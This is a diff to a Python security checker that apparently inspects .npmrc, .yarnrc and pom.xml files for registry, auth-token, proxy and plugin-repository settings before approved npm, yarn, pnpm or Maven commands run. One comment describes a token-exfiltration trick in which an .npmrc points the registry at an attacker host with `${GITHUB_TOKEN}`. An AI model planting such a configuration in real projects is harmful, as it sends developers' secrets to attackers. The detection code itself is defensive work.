@@ -102,8 +102,159 @@ def _pdm_python(_path: str, text: str, inside: Inside) -> str | None:
 # backslash may spell either key in a quoted YAML key (`"yarn\x50ath"`)
 _YARNRC: Final = re.compile(r"(?m)^[ \t]*[\"']?(?:--)?(?:yarn-path|yarnPath)\b[^\n]*")
 _YARNRC_YML: Final = re.compile(r"(?:yarnPath|plugins)[\"']?[ \t]*:[^\n]*|\\|^[ \t]*\?", re.M)
+# where yarn sends its requests and token (review GK6, as `.npmrc`): yarn 1's `.yarnrc`
+# registry, auth, proxy and TLS keys or a `${…}`, berry's `npmRegistryServer`,
+# `npmAuthToken`, `npmScopes`, proxies and certificate files; the default registry's
+# own line is no finding
+_YARNRC_NET: Final = re.compile(
+    r"(?m)^[^\n]*(?:registry|_auth|proxy|cafile|strict-ssl|\$\{)[^\n]*"
+    r"|^[ \t]*[\"']?(?:--)?ca\b[^\n]*"
+)
+_YARNRC_YML_NET: Final = re.compile(
+    r"(?im)^[^\n]*(?:npm\w*(?:registry|auth|scopes)|proxy|filepath|unsafehttp|strictssl"
+    r"|\$\{)[^\n]*"
+)
+_DEFAULT_REGISTRY_LINE: Final = re.compile(
+    r"[ \t]*[\"']?(?:registry|npmRegistryServer)[\"']?[ \t]*:?[ \t]*[\"']?"
+    r"https://registry\.(?:npmjs\.org|yarnpkg\.com)/?[\"']?[ \t]*"
+)
+
+
+def _network(pattern: re.Pattern[str]) -> Callable[[str, str, Inside], str | None]:
+    """The first line `pattern` finds that is not the default registry's (GK6)."""
+
+    def found(_path: str, text: str, _inside: Inside) -> str | None:
+        for match in pattern.finditer(text):
+            if not _DEFAULT_REGISTRY_LINE.fullmatch(match.group(0)):
+                return match.group(0).strip()[:80]
+        return None
+
+    return found
+
+
 # pnpm's hooks file, loaded before it reads the lockfile
 _PNPMFILE: Final = re.compile(r"(?m)^[ \t]*(?:global-)?pnpmfile[ \t]*=[^\n]*")
+# `.npmrc` keys that name no program, registry, host, file or shell (review GK6: a
+# committed `registry=http://evil/` with `//evil/:_authToken=${GITHUB_TOKEN}` sent the token
+# out under an approved `npm view`); any other key, a section, a quoted or escaped key or
+# value, `${…}`, a path or a URL asks. npm, pnpm and yarn 1 read the file.
+_NPMRC_KEYS: Final = frozenset(
+    {"save-exact", "save-prefix", "save", "engine-strict", "fund", "audit", "audit-level",
+     "loglevel", "package-lock", "package-lock-only", "lockfile-version", "legacy-peer-deps",
+     "strict-peer-deps", "strict-peer-dependencies", "auto-install-peers", "progress",
+     "color", "update-notifier", "prefer-offline", "prefer-online", "offline",
+     "ignore-scripts", "shamefully-hoist", "hoist", "hoist-pattern", "public-hoist-pattern",
+     "node-linker", "resolution-mode", "link-workspace-packages", "prefer-workspace-packages",
+     "save-workspace-protocol", "shared-workspace-lockfile", "dedupe-peer-dependents",
+     "include-workspace-root", "recursive-install", "lockfile", "frozen-lockfile",
+     "prefer-frozen-lockfile", "unicode", "timing", "fetch-retries", "fetch-timeout",
+     "maxsockets", "network-concurrency", "child-concurrency", "workspaces-update",
+     "install-links", "omit", "include", "production", "optional", "use-lockfile-v6",
+     "enable-pre-post-scripts", "save-peer", "strict-ssl-warnings", "cache-min"}
+)  # fmt: skip
+_NPMRC_LINE: Final = re.compile(r"[ \t]*([a-z][a-z0-9-]*)(?:\[\])?[ \t]*(?:=[ \t]*([^\n]*))?")
+_NPMRC_VALUE: Final = re.compile(r"[A-Za-z0-9._@^~*<>=|+!,-]*")
+# the registry's own address, as npm and yarn 1 use it unless told otherwise
+_DEFAULT_REGISTRY: Final = re.compile(r"https://registry\.(?:npmjs\.org|yarnpkg\.com)/?")
+
+
+def _npmrc(_path: str, text: str, _inside: Inside) -> str | None:
+    """The first line of an `.npmrc` that sets anything outside `_NPMRC_KEYS` (or that
+    cannot be read as npm's `ini` reads it), None when every line is harmless (GK6)."""
+    for raw in re.split(r"[\r\n]+", text):
+        line = raw.strip(" \t")
+        if not line or line.startswith((";", "#")):
+            continue
+        match = _NPMRC_LINE.fullmatch(line)
+        if match is None:
+            return line[:80]
+        key, value = match.group(1), (match.group(2) or "").strip(" \t")
+        if key == "registry" and _DEFAULT_REGISTRY.fullmatch(value):
+            continue
+        if key not in _NPMRC_KEYS or not _NPMRC_VALUE.fullmatch(value):
+            return line[:80]
+    return None
+
+
+_NPMRC: Final = LaunchFile(".npmrc", _npmrc)
+
+
+# `pom.xml`: what makes Maven run a plugin or extension the project chooses for a goal
+# of no phase (`dependency:tree`, `help:effective-pom`) or an early phase (`validate`,
+# `clean`): a plugin repository, a dependency repository not https, a `file:` URL (one
+# served from the workspace), build extensions (loaded at every start), an entity (which
+# may spell any of these) or a repository URL built from properties (review GK8)
+_POM: Final = re.compile(
+    r"<(?:[\w.-]+:)?(?:pluginRepositor|extensions?\b)|file:|<!ENTITY|<!DOCTYPE|&#"
+    r"|<(?:[\w.-]+:)?repository\b(?:(?!</(?:[\w.-]+:)?repository>).)*?"
+    r"<(?:[\w.-]+:)?url>\s*(?!https://[^<$&]*</)",
+    re.I | re.S,
+)
+# a parent found elsewhere than the folder above (`../pom.xml`, the default, which is
+# looked at as a folder above), or Maven 4's subprojects (which it may also find by
+# itself): their poms are not looked at, so they ask
+_POM_ELSEWHERE: Final = re.compile(
+    r"<(?:[\w.-]+:)?relativePath>(?!\s*(?:\.\./?|\.\./pom\.xml)?\s*</)[^<]*"
+    r"|<(?:[\w.-]+:)?subprojects?\b[^<]*|<(?:[\w.-]+:)?modelVersion>\s*4\.[1-9][^<]*",
+    re.I,
+)
+# a module the reactor builds too, whose pom is judged as well
+_POM_MODULE: Final = re.compile(r"<(?:[\w.-]+:)?module>([^<]*)</(?:[\w.-]+:)?module>", re.I)
+_POM_MODULES_MAX: Final = 256
+# an early phase runs the executions the pom binds to it
+_POM_EXECUTION: Final = re.compile(r"<(?:[\w.-]+:)?executions?\b", re.I)
+# the phases before any code builds, whose approval covers no plugin the pom binds
+_MAVEN_EARLY: Final = frozenset(
+    {"validate", "initialize", "generate-sources", "pre-clean", "clean", "post-clean",
+     "pre-site", "site", "post-site", "site-deploy"}
+)  # fmt: skip
+
+
+def _pom_setting(text: str, early: bool) -> str | None:
+    """What in one pom's text `_POM`, `_POM_ELSEWHERE` (and for an early phase
+    `_POM_EXECUTION`) find."""
+    match = _POM.search(text) or _POM_ELSEWHERE.search(text)
+    if match is None and early:
+        match = _POM_EXECUTION.search(text)
+    return None if match is None else match.group(0).strip()[:80]
+
+
+def _pom_tree(path: str, text: str, inside: Inside, early: bool) -> str | None:
+    """What in a `pom.xml` or the poms of its modules (recursively) makes an approved
+    `mvn dependency:tree` run a plugin the project chooses (review GK8); a module outside
+    the workspace, not read or one too many asks."""
+    seen = {os.path.normpath(path)}
+    todo = [(path, text)]
+    while todo:
+        where, body = todo.pop()
+        found = _pom_setting(body, early)
+        if found is not None:
+            return found
+        for name in _POM_MODULE.findall(body):
+            module = os.path.normpath(os.path.join(os.path.dirname(where), name.strip()))
+            if not module.endswith(".xml"):
+                module = os.path.join(module, "pom.xml")
+            if module in seen:
+                continue
+            seen.add(module)
+            data = read_regular(module, _MAX_BYTES + 1) if inside(module) else None
+            if data is None or len(data) > _MAX_BYTES or len(seen) > _POM_MODULES_MAX:
+                return f"module {name.strip()[:60]}, whose pom cannot be read here"
+            todo.append((module, data.decode("utf-8", "replace")))
+    return None
+
+
+def _pom(path: str, text: str, inside: Inside) -> str | None:
+    """`_pom_tree` for a goal of no phase (`dependency:tree`, `help:effective-pom`)."""
+    return _pom_tree(path, text, inside, False)
+
+
+def _pom_early(path: str, text: str, inside: Inside) -> str | None:
+    """`_pom_tree` for an early phase (`validate`, `clean`), which also runs the
+    executions the poms bind (review GK8)."""
+    return _pom_tree(path, text, inside, True)
+
+
 # the words of `.mvn/jvm.config` that start no code of the project: heap and stack sizes,
 # the JVM's boolean and numeric `-XX` flags, modules opened, and a few properties of no
 # program (`-javaagent:`, `-agentpath:`, `-Xbootclasspath`, `-XX:OnError=`, a class
@@ -194,12 +345,17 @@ LAUNCHERS: Final[dict[str, tuple[LaunchFile, ...]]] = {
     "yarn": (
         LaunchFile(".yarnrc", _searched(_YARNRC)),
         LaunchFile(".yarnrc.yml", _searched(_YARNRC_YML)),
+        LaunchFile(".yarnrc", _network(_YARNRC_NET)),
+        LaunchFile(".yarnrc.yml", _network(_YARNRC_YML_NET)),
+        _NPMRC,
     ),
     "pnpm": (
         LaunchFile(".pnpmfile.cjs", _exists),
         LaunchFile(".pnpmfile.mjs", _exists),
         LaunchFile(".npmrc", _searched(_PNPMFILE)),
+        _NPMRC,
     ),
+    "npm": (_NPMRC,),
     "mvn": _MAVEN,
     "mvnw": _MAVEN,
     "bazel": _BAZEL,
@@ -250,6 +406,15 @@ _CODE_VERBS: Final[dict[str, frozenset[str]]] = {
          "exec", "dlx", "create", "rebuild", "pack", "publish", "link", "import", "install-test",
          "it"}
     ),
+    # npm's install, script and exec verbs, in their aliases (GK6)
+    "npm": frozenset(
+        {"install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal",
+         "isntall", "add", "ci", "clean-install", "ic", "install-clean", "isntall-clean",
+         "install-test", "it", "install-ci-test", "cit", "clean-install-test", "sit", "run",
+         "run-script", "rum", "urn", "rebuild", "rb", "test", "tst", "t", "start", "stop",
+         "restart", "exec", "x", "pack", "publish", "link", "ln", "update", "up", "upgrade",
+         "udpate", "explore"}
+    ),
     "bazel": frozenset(
         {"build", "test", "run", "coverage", "query", "cquery", "aquery", "fetch", "sync",
          "mobile-install", "mod", "vendor", "print_action"}
@@ -273,12 +438,16 @@ _MAVEN_PHASES: Final = frozenset(
      "process-test-classes", "test", "prepare-package", "package", "pre-integration-test",
      "integration-test", "post-integration-test", "verify", "install", "deploy"}
 )  # fmt: skip
+# the options that make a line of no verb print the version or help, no install
+_INFO_OPTIONS: Final = frozenset({"--version", "-v", "-V", "--help", "-h"})
 # options that move the project folder the files are looked up from
 _MOVERS: Final[dict[str, frozenset[str]]] = {
     "yarn": frozenset({"--cwd"}),
     "pnpm": frozenset({"-C", "--dir"}),
     "pdm": frozenset({"-p", "--project"}),
     "rye": frozenset({"--pyproject"}),
+    # npm reads the `.npmrc` of the prefix, and the files these name (review GK6)
+    "npm": frozenset({"--prefix", "-C", "--userconfig", "--globalconfig"}),
 }
 
 
@@ -293,10 +462,28 @@ def covers_code(program: str, words: list[str | None], scripts: Callable[[], set
     verb = next((w for w in words if w is None or not w.startswith("-")), "")
     if verb is None:
         return False
+    if verb == "" and any(word in _INFO_OPTIONS for word in words):
+        # `yarnpkg --version`: no install, but yarn 1 and berry run `yarnPath`'s release
+        # to print its version or help (review GK7)
+        return False
     if verb in verbs:
         return True
     # yarn and pnpm run a script of `package.json` for a verb they do not know
     return program in ("yarn", "pnpm") and verb not in _OWN_VERBS and verb in scripts()
+
+
+def files_for(program: str, words: list[str | None]) -> tuple[LaunchFile, ...]:
+    """`LAUNCHERS[program]`, and for Maven with a goal or phase the project's `pom.xml`,
+    whose plugin repositories and extensions choose the plugin a goal runs (review GK8;
+    `mvn --version` reads no pom)."""
+    files = LAUNCHERS[program]
+    if program not in ("mvn", "mvnw"):
+        return files
+    goals = [word for word in words if word is None or not word.startswith("-")]
+    if not goals:
+        return files
+    early = any(word in _MAVEN_EARLY for word in goals)
+    return (*files, LaunchFile("pom.xml", _pom_early if early else _pom))
 
 
 def mover(program: str, words: list[str | None]) -> str | None:
